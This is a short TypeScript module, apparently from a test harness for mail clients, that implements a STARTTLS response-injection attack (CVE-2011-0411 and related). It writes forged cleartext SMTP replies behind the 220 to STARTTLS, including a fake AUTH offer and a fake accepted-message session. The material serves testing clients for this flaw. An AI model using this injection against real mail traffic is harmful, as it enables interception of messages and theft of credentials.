/**
 * Puts words of its own behind the 220 to STARTTLS, in clear, and lets the handshake go through untouched: a sender that keeps what
 * it has read across the handshake takes them for the server's first words inside TLS (CVE-2011-0411 and its kin of 2021).
 */
import { meddling } from "./middle.ts";
import { attacker, type StartAttack } from "./types.ts";

/** A second EHLO reply: whatever the server can do, the sender is to believe that it can do this. */
export const injectedReply = "250-mx.attacker.example\r\n250 AUTH PLAIN LOGIN\r\n";

/** Every answer up to the end of a message, so that the sender believes that it was taken before anybody inside TLS has said a word. */
export const injectedSession = [
  "250 mx.attacker.example",
  "250 2.1.0 Sender ok",
  "250 2.1.5 Recipient ok",
  "354 Go ahead",
  "250 2.0.0 Taken",
  "",
].join("\r\n");

export const injectResponse = attacker("inject-response", {
  "same-write": injecting(injectedReply),
  "whole-session": injecting(injectedSession),
  // Apart from the 220. With a sender that is quicker than the second packet it falls into the handshake, and is garbage like any other.
  "next-write": meddling({
    startTls(passage, agreement) {
      passage.strike();
      passage.client.write(agreement, "latin1");
      passage.client.write(injectedReply, "latin1");
      passage.passThrough();
    },
  }),
});

function injecting(words: string): StartAttack {
  return meddling({
    startTls(passage, agreement) {
      passage.strike();
      passage.client.write(agreement + words, "latin1");
      passage.passThrough();
    },
  });
}
